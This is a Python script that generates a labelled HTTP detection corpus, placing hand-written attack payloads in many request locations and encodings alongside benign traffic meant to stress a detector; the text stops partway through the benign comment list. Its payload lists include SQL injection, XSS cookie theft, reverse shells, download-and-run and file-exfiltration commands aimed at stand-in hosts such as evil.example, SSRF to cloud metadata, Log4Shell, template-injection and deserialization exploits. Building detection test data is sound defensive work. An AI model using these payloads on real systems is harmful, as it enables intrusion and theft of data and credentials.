#!/usr/bin/env python3
"""Generates the labelled detection corpus: testdata/detect/corpus.jsonl.

Deterministic (fixed seed). Each line: {"id", "label", "method", "target", "headers": [[n, v]...],
"body" | "body_b64", "location", "encoding"}; `label` is an attack class or "benign".

Attacks: every class's payloads are placed in every location that applies (query argument, form field,
nested JSON, multipart field and filename, XML element, cookie, User-Agent / Referer / X-Forwarded-For /
custom header, path segment) and in the encodings an attacker uses (plain, URL-encoded, double
URL-encoded, %u, `+` for spaces, mixed case, HTML entities, JSON \\u escapes, SQL comments as spaces,
overlong UTF-8, NUL byte, full-width Unicode).
Benign: realistic browser and API traffic, written to stress the detector (apostrophes, prose with SQL
words, quotes and ampersands, JSON, base64, JWTs, HTML in comments, uploads, XML, internal XFF).

Usage: python3 scripts/detect/gen_corpus.py [OUT]
"""
import base64
import json
import random
import sys
import urllib.parse

R = random.Random(20261124)

# ------------------------------------------------------------------------------------------------
# Attack payloads per class (hand-written families; public lists are used only for the separate
# generalisation check, never copied here).
ATTACKS = {
    "sqli": [
        "1' OR '1'='1", "' or 1=1-- -", "admin'--", "admin' #", "1 OR 1=1", "1) OR (1=1",
        "' UNION SELECT username, password FROM users--", "1 UNION ALL SELECT NULL,NULL,NULL--",
        "-1 union select 1,2,group_concat(table_name) from information_schema.tables",
        "1' AND SLEEP(5)-- ", "1; WAITFOR DELAY '0:0:5'--", "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- x",
        "1' AND extractvalue(1,concat(0x7e,version()))-- ", "' OR 'a'='a", "\") OR (\"x\"=\"x",
        "1'; DROP TABLE users; --", "1 AND 1=2 UNION SELECT @@version", "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
        "1' ORDER BY 3--+", "' OR 1 GROUP BY CONCAT_WS(0x3a,VERSION(),FLOOR(RAND(0)*2)) HAVING MIN(0)#",
        "1' and updatexml(1,concat(0x3a,(select user())),1)--", "1 AND pg_sleep(5)", "'||(SELECT version())||'",
        "' OR EXISTS(SELECT * FROM users WHERE username='admin')--", "1' UNION SELECT load_file('/etc/passwd')-- -",
        "'; EXEC xp_cmdshell('whoami')--", "1 or benchmark(10000000,md5(1))#", "x' AND 1=(SELECT COUNT(*) FROM sysobjects)--",
        "1'/**/UNION/**/SELECT/**/password/**/FROM/**/users--", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3",
        "' or ''='", "1' AND '1'='1", "' OR username LIKE '%admin%'--", "1 AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)=1",
        "admin') or ('1'='1'--", "1' INTO OUTFILE '/var/www/html/s.php'--", "' HAVING 1=1 --",
        "1 AND 5=5", "' and 1=convert(int,(select top 1 name from sysobjects))--",
    ],
    "xss": [
        "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "\"><svg/onload=alert(1)>",
        "'><script>prompt(1)</script>", "<body onload=alert('xss')>", "javascript:alert(1)",
        "<iframe src=\"javascript:alert(1)\"></iframe>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "\" onmouseover=\"alert(1)", "' autofocus onfocus=alert(1) x='", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<details open ontoggle=alert(1)>", "<input onfocus=alert(1) autofocus>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<IMG SRC=JaVaScRiPt:alert('XSS')>", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<div style=\"background:url(javascript:alert(1))\">", "</script><script>alert(1)</script>", "';alert(String.fromCharCode(88,83,83))//",
        "<video><source onerror=\"alert(1)\">", "<marquee onstart=alert(1)>", "<a href=javascript&colon;alert(1)>click</a>",
        "<embed src=\"javascript:alert(1)\">", "<form action=javascript:alert(1)><input type=submit>", "<isindex type=image src=1 onerror=alert(1)>",
        "<svg><script>alert&#40;1&#41;</script>", "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>", "\";document.location='http://evil.example/?c='+document.cookie;//",
        "<base href=\"javascript:alert(1)//\">", "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<textarea autofocus onfocus=alert(1)>", "<button formaction=javascript:alert(1)>x", "{{constructor.constructor('alert(1)')()}}",
    ],
    "lfi": [
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/passwd", "/etc/shadow",
        "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/%2e%2e/etc/hosts", "..%c0%af..%c0%afetc/passwd", "../../../../../../proc/self/environ",
        "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "/var/log/apache2/access.log", "../../../../boot.ini",
        "..;/..;/..;/WEB-INF/web.xml", "../../../../../etc/passwd%00.jpg", "C:\\Windows\\System32\\drivers\\etc\\hosts", "/proc/self/cmdline",
        "....\\\\....\\\\windows\\\\system.ini", "../../.env", "..%5c..%5c..%5cwindows%5cwin.ini", "php://input", "zip://uploads/a.zip#shell.php",
        "phar://uploads/avatar.jpg/x.php", "expect://id", "/..%252f..%252f..%252fetc/passwd", "../../../../home/user/.ssh/id_rsa",
        "..././..././..././etc/passwd", "%252e%252e%252fetc%252fpasswd", "/.git/config", "../../../var/www/html/wp-config.php", "\\\\..\\\\..\\\\..\\\\etc\\\\passwd",
    ],
    "rfi": [
        "http://evil.example/shell.txt?", "https://attacker.example/c99.php", "http://198.51.100.7/rfi.txt", "ftp://files.attacker.example/backdoor.php?",
        "http://evil.example/payload.txt%00", "\\\\attacker.example\\share\\shell.php", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
        "data:text/plain,<?php phpinfo();?>", "http://attacker.example/inject.txt??", "https://evil.example/r57.php?cmd=id",
        "http://203.0.113.9/x.php", "https://pastebin.example/raw/shell.txt?", "http://evil.example/exploit.txt#", "include('http://evil.example/a.txt')",
        "http://evil.example/webshell.jpg?",
    ],
    "cmdi": [
        "; id", "| whoami", "`id`", "$(whoami)", "&& cat /etc/passwd", "|| uname -a", "; ls -la /", "127.0.0.1; cat /etc/shadow",
        "8.8.8.8 | nc -e /bin/sh 198.51.100.7 4444", "x; sleep 10", "1;wget http://evil.example/x.sh -O /tmp/x;sh /tmp/x", "a\nid", "& ping -n 10 127.0.0.1 &",
        "; bash -i >& /dev/tcp/198.51.100.7/8080 0>&1", "$(curl http://evil.example/`whoami`)", ";cat${IFS}/etc/passwd", "|ifconfig", "& dir c:\\",
        "; powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://evil.example/a')\"", "| type C:\\Windows\\win.ini", "; /bin/cat /etc/passwd",
        "&& echo pwned > /tmp/p", "|| ping -c 3 evil.example", "; python -c 'import os;os.system(\"id\")'", "a;{cat,/etc/passwd}", "x|/usr/bin/id",
        "; curl -d @/etc/passwd http://evil.example", "`sleep 5`", "1 && certutil -urlcache -split -f http://evil.example/a.exe", "; rm -rf /tmp/*",
        "$(sleep 5)", "; nslookup evil.example", "|| /bin/ls -al",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:8080/admin", "http://localhost/server-status",
        "http://[::1]/", "http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/", "http://127.1/", "http://10.0.0.12:6379/",
        "gopher://127.0.0.1:6379/_FLUSHALL", "dict://localhost:11211/stats", "http://metadata.google.internal/computeMetadata/v1/",
        "http://192.168.1.1/cgi-bin/login", "http://[::ffff:169.254.169.254]/", "http://169.254.169.254.nip.io/", "https://172.16.0.5/internal",
        "http://0/", "http://user@127.0.0.1:80@evil.example/", "http://100.100.100.200/latest/meta-data/", "http://[fd00:ec2::254]/latest/meta-data/",
        "http://0xa9fea9fe/", "http://localtest.me/", "//169.254.169.254/latest/user-data", "http://①②⑦.⓪.⓪.①/",
    ],
    "xxe": [
        "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
        "<?xml version=\"1.0\"?><!DOCTYPE data [<!ENTITY % remote SYSTEM \"http://evil.example/x.dtd\"> %remote;]><data>1</data>",
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><r>&x;</r>",
        "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
        "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
        "<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://evil.example/evil.dtd\"><svg/>",
        "<!DOCTYPE foo SYSTEM \"http://evil.example/x.dtd\"><foo/>", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY % b SYSTEM \"php://filter/convert.base64-encode/resource=/etc/hosts\">%b;]><a/>",
        "<!DOCTYPE x [ <!ENTITY ent PUBLIC \"x\" \"expect://id\"> ]><x>&ent;</x>", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE test [<!ELEMENT test ANY><!ENTITY t SYSTEM \"file:///c:/windows/win.ini\">]><test>&t;</test>",
    ],
    "ssti": [
        "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}", "*{7*7}", "{{7*'7'}}", "${{7*7}}", "#set($x=7*7)${x}", "{php}echo `id`;{/php}",
        "{{self._TemplateReference__context.joiner.__init__.__globals__.os}}", "@(7*7)", "{{lipsum.__globals__['os'].popen('id').read()}}", "{$smarty.version}",
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    ],
    "nosqli": [
        "{\"$ne\": null}", "{\"$gt\": \"\"}", "{\"$regex\": \".*\"}", "' || '1'=='1", "'; return true; var x='", "{\"$where\": \"sleep(5000)\"}",
        "admin' && this.password.match(/.*/)//", "{\"username\": {\"$ne\": \"x\"}, \"password\": {\"$ne\": \"x\"}}", "1; return db.users.find()",
        "{\"$or\": [{}, {\"a\": \"a\"}]}", "'; while(true){}; var a='", "{\"$in\": [\"admin\", \"root\"]}", "true, $where: '1 == 1'", "';sleep(5000);'",
    ],
    "log4shell": [
        "${jndi:ldap://evil.example/a}", "${jndi:rmi://198.51.100.7:1099/x}", "${${lower:j}ndi:${lower:l}dap://evil.example/x}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/z}", "${jndi:dns://evil.example/${env:AWS_SECRET_ACCESS_KEY}}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/x}",
        "${jndi:ldaps://evil.example/a}", "${${upper:j}ndi:ldap://evil.example/x}", "${jn${lower:D}i:ldap://evil.example/x}", "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/x}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/x}",
    ],
    "crlf": [
        "%0d%0aSet-Cookie:crlf=injected", "foo%0d%0aLocation:%20http://evil.example", "%0aSet-Cookie: a=b", "x\r\nX-Injected: 1",
        "%E5%98%8A%E5%98%8DSet-Cookie:x=1", "/%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK", "en%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>",
        "%250d%250aSet-Cookie:a=b", "a%0d%0aRefresh:0;url=http://evil.example", "%0d%0aAccess-Control-Allow-Origin:%20*",
    ],
    "shellshock": [
        "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'", "() { :;}; /bin/bash -c \"wget http://evil.example/x\"", "() { _; } >_[$($())] { id; }",
        "() { :; }; /usr/bin/id", "() { test;};echo \"Content-type: text/plain\"; echo; /bin/cat /etc/passwd", "() { :;}; sleep 5",
    ],
    "deserialization": [
        "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}", "a:2:{i:0;s:4:\"test\";i:1;O:4:\"User\":1:{s:5:\"admin\";b:1;}}",
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7",
        "aced0005737200116a6176612e7574696c2e48617368536574", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://evil.example/a\",\"autoCommit\":true}",
        "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\"}", "!!python/object/apply:os.system [\"id\"]",
        "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}", "O:40:\"Illuminate\\\\Broadcasting\\\\PendingBroadcast\":1:{s:9:\"\\0*\\0events\";O:15:\"Faker\\\\Generator\":0:{}}",
        "[\"org.springframework.context.support.ClassPathXmlApplicationContext\", {\"configLocation\":\"http://evil.example/x.xml\"}]",
        "AAEAAAD/////AQAAAAAAAAAMAgAAAF9NaWNyb3NvZnQuUG93ZXJTaGVsbC5FZGl0b3I=", "cos\nsystem\n(S'id'\ntR.", "--- !ruby/object:Gem::Installer\ni: x",
    ],
    "code_injection": [
        "<?php system($_GET['c']); ?>", "phpinfo()", "system('id')", "${@print(md5(1))}", "eval($_POST['x'])", "';phpinfo();//",
        "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}", "__import__('os').system('id')",
        "require('child_process').exec('id')", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "T(java.lang.Runtime).getRuntime().exec(\"id\")",
        "<?= `id` ?>", "assert($_REQUEST['x'])", "${Runtime.getRuntime().exec('id')}", "#{''.getClass().forName('java.lang.Runtime')}", "file_put_contents('s.php','<?php eval($_GET[1]);')",
        "process.mainModule.require('child_process').execSync('id')", "base64_decode('c3lzdGVtKCdpZCcpOw==')", "{${phpinfo()}}",
    ],
    "scanner": [],  # headers only, generated below
    "protocol": [],  # framing, generated below
}

# Which locations make sense per class (all value locations by default).
VALUE_LOCS = ["query", "form", "json", "multipart", "xml", "cookie", "header_ua", "header_referer", "header_xff",
              "header_custom", "path"]
LOCS = {c: VALUE_LOCS for c in ATTACKS}
LOCS["xxe"] = ["xmlbody", "form", "multipart", "query", "json"]
LOCS["rfi"] = ["query", "form", "json", "multipart", "xml", "cookie"]
LOCS["ssrf"] = ["query", "form", "json", "multipart", "xml", "cookie", "header_custom"]
LOCS["lfi"] = VALUE_LOCS + ["filename"]
LOCS["xss"] = VALUE_LOCS + ["filename"]
LOCS["cmdi"] = VALUE_LOCS + ["filename"]
LOCS["crlf"] = ["query", "path", "cookie", "header_custom", "form"]
LOCS["shellshock"] = ["header_ua", "header_referer", "header_custom", "cookie", "query"]
LOCS["log4shell"] = VALUE_LOCS + ["header_accept"]
LOCS["deserialization"] = ["query", "form", "json", "multipart", "cookie", "header_custom", "rawbody"]
LOCS["nosqli"] = ["query", "form", "json", "cookie", "multipart"]

ENCODINGS = {
    "query": ["plain", "url", "double", "percent_u", "plus", "case"],
    "form": ["plain", "url", "double", "plus", "case", "html"],
    "path": ["url", "double", "case"],
    "cookie": ["url", "plain", "double"],
    "json": ["plain", "json_u", "case", "url"],
    "multipart": ["plain", "case", "html"],
    "filename": ["plain"],
    "xml": ["xmlesc", "html"],
    "xmlbody": ["plain", "case"],
    "header_ua": ["plain", "url", "case"],
    "header_referer": ["plain", "url"],
    "header_xff": ["plain", "url"],
    "header_custom": ["plain", "url", "double"],
    "header_accept": ["plain"],
    "rawbody": ["plain"],
}
# Encodings that only make sense for some classes.
SPECIAL_ENC = {"sqli": ["sqlcomment"], "lfi": ["overlong", "nul"], "xss": ["fullwidth", "html"], "cmdi": ["percent_u"]}

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.71 Mobile Safari/537.36",
    "okhttp/4.12.0", "python-requests/2.32.3", "curl/8.5.0", "Go-http-client/1.1", "PostmanRuntime/7.39.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)", "axios/1.7.2", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
]
HOSTS = ["shop.example.com", "api.example.com", "www.example.org", "portal.example.net"]


def q(s, safe=""):
    return urllib.parse.quote(s, safe=safe)


def percent_u(s):
    return "".join("%%u%04x" % ord(c) if not c.isalnum() else c for c in s)


def fullwidth(s):
    return "".join(chr(ord(c) + 0xFEE0) if 0x21 <= ord(c) <= 0x7E and c not in "%" else c for c in s)


def mixcase(s):
    return "".join(c.upper() if R.random() < 0.5 else c.lower() for c in s)


def html_ent(s):
    return "".join("&#%d;" % ord(c) if c in "<>\"'():;=/" else c for c in s)


def encode(payload, enc, cls):
    """Returns (text to place, already_url_encoded: bool)."""
    if enc == "plain":
        return payload, False
    if enc == "url":
        return q(payload), True
    if enc == "double":
        return q(q(payload)), True
    if enc == "percent_u":
        return percent_u(payload), True
    if enc == "plus":
        return q(payload).replace("%20", "+"), True
    if enc == "case":
        if cls in ("lfi", "rfi", "ssrf", "deserialization", "log4shell", "nosqli", "crlf", "cmdi", "shellshock"):
            return payload, False  # case matters to the target; keep
        return mixcase(payload), False
    if enc == "html":
        return html_ent(payload), False
    if enc == "json_u":
        return payload, False  # handled by json placement (ensure_ascii + \\u escapes)
    if enc == "xmlesc":
        return payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"), False
    if enc == "sqlcomment":
        return payload.replace(" ", "/**/"), False
    if enc == "overlong":
        return payload.replace("../", "%c0%ae%c0%ae%c0%af").replace("..\\", "%c0%ae%c0%ae%c1%9c"), True
    if enc == "nul":
        return q(payload) + "%00.png", True
    if enc == "fullwidth":
        return q(fullwidth(payload)), True
    raise ValueError(enc)


def base_headers(host=None, ua=None):
    h = [["Host", host or R.choice(HOSTS)], ["User-Agent", ua or R.choice(UAS)],
         ["Accept", R.choice(["*/*", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8", "application/json"])],
         ["Accept-Language", R.choice(["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.8"])],
         ["Accept-Encoding", "gzip, deflate, br"]]
    return h


def place(cls, payload, loc, enc):
    text, encoded = encode(payload, enc, cls)
    method, target, headers, body, body_b64 = "GET", "/", base_headers(), None, None
    pname = R.choice(["q", "id", "name", "file", "url", "page", "search", "user", "cmd", "template", "data", "redirect", "lang"])
    if loc == "query":
        v = text if encoded else q(text)
        target = R.choice(["/search", "/index.php", "/api/v1/items", "/product", "/view"]) + "?" + R.choice(["", "page=1&"]) + pname + "=" + v
    elif loc == "path":
        v = text if encoded else q(text, safe="/")
        target = "/files/" + v
    elif loc == "form":
        method = "POST"
        v = text if encoded else q(text)
        body = "csrf=a8f5f167f44f4964e6c998dee827110c&" + pname + "=" + v + "&submit=Send"
        headers.append(["Content-Type", "application/x-www-form-urlencoded"])
    elif loc == "json":
        method = "POST"
        val = urllib.parse.unquote(text) if False else text
        doc = {"user": {"id": 1042, "profile": {pname: val, "active": True}}, "tags": ["a", "b"]}
        body = json.dumps(doc, ensure_ascii=(enc == "json_u"))
        if enc == "json_u":
            body = body.replace("<", "\\u003c").replace(">", "\\u003e").replace("'", "\\u0027")
        headers.append(["Content-Type", "application/json"])
        target = "/api/v2/users/1042"
    elif loc == "multipart":
        method = "POST"
        b = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
        body = (f"--{b}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nholiday\r\n"
                f"--{b}\r\nContent-Disposition: form-data; name=\"{pname}\"\r\n\r\n{text}\r\n--{b}--\r\n")
        headers.append(["Content-Type", f"multipart/form-data; boundary={b}"])
        target = "/upload"
    elif loc == "filename":
        method = "POST"
        b = "----formdata-boundary-81a9"
        fn = text.replace('"', "%22")
        body = (f"--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{fn}\"\r\nContent-Type: image/png\r\n\r\n"
                f"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\r\n--{b}--\r\n")
        headers.append(["Content-Type", f"multipart/form-data; boundary={b}"])
        target = "/upload"
    elif loc == "xml":
        method = "POST"
        body = f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><order><id>77</id><note>{text}</note></order>"
        headers.append(["Content-Type", "application/xml"])
        target = "/api/orders"
    elif loc == "xmlbody":
        method = "POST"
        body = text
        headers.append(["Content-Type", R.choice(["application/xml", "text/xml", "application/soap+xml"])])
        target = "/api/import"
    elif loc == "rawbody":
        method = "POST"
        body = text
        headers.append(["Content-Type", "application/octet-stream"])
        target = "/api/session"
    elif loc == "cookie":
        v = text if encoded else q(text)
        headers.append(["Cookie", f"session=9f8e7d6c5b4a; {pname}={v}; theme=dark"])
    elif loc == "header_ua":
        headers[1][1] = text
    elif loc == "header_referer":
        headers.append(["Referer", "https://www.example.com/page?x=" + text if cls not in ("shellshock",) else text])
    elif loc == "header_xff":
        headers.append(["X-Forwarded-For", text])
    elif loc == "header_custom":
        headers.append([R.choice(["X-Api-Version", "X-Custom-Data", "X-Client-Info", "X-Original-URL", "X-Device-Id"]), text])
    elif loc == "header_accept":
        headers[2][1] = text
    else:
        raise ValueError(loc)
    if body is not None and "Content-Type" not in [h[0] for h in headers]:
        headers.append(["Content-Type", "text/plain"])
    rec = {"method": method, "target": target, "headers": headers}
    if body is not None:
        raw = body.encode("utf-8", "surrogateescape") if isinstance(body, str) else body
        try:
            raw.decode("ascii")
            rec["body"] = body
        except UnicodeDecodeError:
            rec["body_b64"] = base64.b64encode(raw).decode()
        headers.append(["Content-Length", str(len(raw))])
    return rec


def attacks():
    out = []
    for cls, payloads in ATTACKS.items():
        for i, p in enumerate(payloads):
            locs = LOCS[cls]
            # every payload in 4 locations; every location covered over the payload list
            chosen = [locs[(i * 4 + k) % len(locs)] for k in range(4)]
            for loc in chosen:
                encs = list(ENCODINGS[loc]) + [e for e in SPECIAL_ENC.get(cls, []) if loc in ("query", "form", "cookie", "path")]
                for enc in R.sample(encs, min(2, len(encs))):
                    rec = place(cls, p, loc, enc)
                    rec.update(label=cls, location=loc, encoding=enc)
                    out.append(rec)
    # scanners: tool User-Agents and markers
    scanners = [
        "sqlmap/1.8.4#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 zgrab/0.x", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        "Fuzz Faster U Fool v2.1.0", "gobuster/3.6", "Wfuzz/3.1.0", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; Acunetix)",
        "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "commix/v3.9 (https://commixproject.com)", "Arachni/v1.6.1",
        "Mozilla/5.0 (compatible; Netsparker)", "w3af.org", "feroxbuster/2.10.4", "xsstrike", "Hydra v9.5", "ZmEu", "Mozilla/5.0 (X11; Linux x86_64) Jorgee",
    ]
    for i, ua in enumerate(scanners):
        for t in ["/", "/wp-login.php", "/admin/?id=1"]:
            h = base_headers(ua=ua)
            out.append({"method": "GET", "target": t, "headers": h, "label": "scanner", "location": "header_ua", "encoding": "plain"})
    for t, extra in [("/", ["Acunetix-Product", "WVS/14.0"]), ("/", ["X-Scanner", "Netsparker"]),
                     ("/?x=abc.oastify.com", None), ("/api?cb=http://x1.burpcollaborator.net", None), ("/w00tw00t.at.ISC.SANS.DFind:)", None),
                     ("/nice%20ports%2C/Tri%6Eity.txt%2ebak", None), ("/?u=http://c5.oast.fun/", None), ("/", ["X-Forwarded-For", "abc.interact.sh"])]:
        h = base_headers()
        if extra:
            h.append(extra)
        out.append({"method": "GET", "target": t, "headers": h, "label": "scanner", "location": "marker", "encoding": "plain"})
    # protocol anomalies (as vxtap-http delivers them: requests it can frame)
    body = "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n\r\n"
    protos = [
        [["Content-Length", "6"], ["Transfer-Encoding", "chunked"]],
        [["Transfer-Encoding", "chunked"], ["Content-Length", "4"]],
        [["Content-Length", "5"], ["Content-Length", "5"]],
        [["Content-Length", "5, 5"]],
        [["Transfer-Encoding", "chunked"], ["Transfer-Encoding", "chunked"]],
        [["Transfer-Encoding", "gzip, chunked"], ["Content-Length", "10"]],
        [["Transfer-Encoding", "identity, chunked"]],
        [["Transfer-Encoding", "chunked"], ["Transfer-Encoding", "x"]],
        [["Transfer Encoding", "chunked"]],
        [["Content-Length ", "5"], ["X y", "1"]],
        [["X-Foo\x7f", "a"]],
        [["Foo@bar", "1"]],
        [["Content-Length", "+5"]],
        [["Content-Length", "0x5"]],
    ]
    for i, extra in enumerate(protos):
        for m in ["POST", "GET"]:
            h = base_headers() + extra
            out.append({"method": m, "target": "/", "headers": h, "body": body, "label": "protocol", "location": "headers", "encoding": "plain"})
    return out


# ------------------------------------------------------------------------------------------------
# Benign traffic
FIRST = ["Olivia", "Liam", "Seán", "Zoë", "Renée", "José", "Aoife", "Mohammed", "Chloé", "Björn", "Ngozi", "Hiroshi", "D'Arcy", "Jean-Luc"]
LAST = ["O'Brien", "D'Angelo", "O'Neil", "McDonald", "Smith-Jones", "van der Berg", "Müller", "Nguyễn", "L'Écuyer", "Dell'Acqua", "O'Connor", "Al-Farsi"]
SEARCH = [
    "O'Reilly books", "\"exact phrase\" search", "Tom & Jerry", "R&D budget", "AT&T phone plans", "rock 'n' roll", "c++ tutorial",
    "50% off shoes", "what is 2+2", "salt & pepper shaker", "cats & dogs", "Q&A session", "B&B near me", "select comfort mattress",
    "union station parking", "how to drop a course", "delete my account", "update billing address", "insert tab not working",
    "select the best union jobs from our list", "order by phone", "where to buy", "I can't login", "It's a \"great\" deal!",
    "don't stop believin'", "the union of two sets", "SELECT & Union brand store", "table for two", "drop shipping from china",
    "wait for delay notification", "sleep mask", "benchmark results 2024", "user agent string", "who am I quiz", "cat toys", "id card renewal",
    "ls engine parts", "echo dot", "ping pong table", "net user guide", "dir en grey", "type c charger", "more or less", "1 or 2 bedrooms",
    "and/or usage", "a = b + c", "x > 5 and y < 3", "email@example.com", "+1 (555) 010-9999", "$19.99", "#hashtag", "100% cotton",
    "<3 love", "5 < 6", "script writing tips", "javascript tutorial", "onload event explained", "alert system for seniors",
    "prompt engineering", "confirm reservation", "eval function python", "how to use ../ in paths",
    "windows 11 system32 folder", "passwd command linux", "C:\\Users\\Public", "localhost vs 127.0.0.1", "template {name}",
    "hello {{ name }}", "price ${amount}", "curl command examples", "wget vs curl", "bash scripting guide", "python -m venv",
    "Ünïcödé tëxt", "日本語のテキスト", "emoji 😀 test", "semicolon; separated; list", "pipe | separated", "back`tick", "a; b; c",
    "Johnson & Johnson", "Ben & Jerry's", "Marks & Spencer", "H&M jeans", "Procter & Gamble", "black & white photos",
    "the \"or\" operator", "1=1 meaning", "O'Hare airport", "Hawai'i vacation", "L'Oréal", "Côte d'Ivoire", "you're welcome",
    "it's 5 o'clock", "'quoted'", "\"double\"", "null", "true", "-1", "0", "a--b", "mid-century", "well-known", "up-to-date",
    "shut down laptop", "exec summary", "declare variables", "truncate text css", "create table html", "alter ego",
    "grant application", "having fun", "group by date excel", "case when excel", "if function excel", "sum(a1:a10)", "=SUM(B2:B9)",
    "concat strings js", "char limit twitter", "cast iron pan", "convert pdf to word", "version 2.0", "database design course",
    "schema markup", "information about us", "system requirements",
    "execute order", "load data from csv", "outfile fashion", "having (fun)", "or else", "and then", "this or that",
    "Drop-down menu", "Update: new features", "From the desk of", "What's new in 2024?",
]
COMMENTS = [
    "<p>Great product, would buy again!</p>", "<b>Love it</b> &mdash; five stars", "<p>See <a href=\"https://example.com/review\">my review</a></p>",
    "<img src=\"https://cdn.example.com/u/42/photo.jpg\" alt=\"my cat\">", "I'd rate it 4/5. Shipping was slow; packaging OK.",
    "Select the size carefully - the union of S and M sizes is confusing. Drop me a line if you need help!",
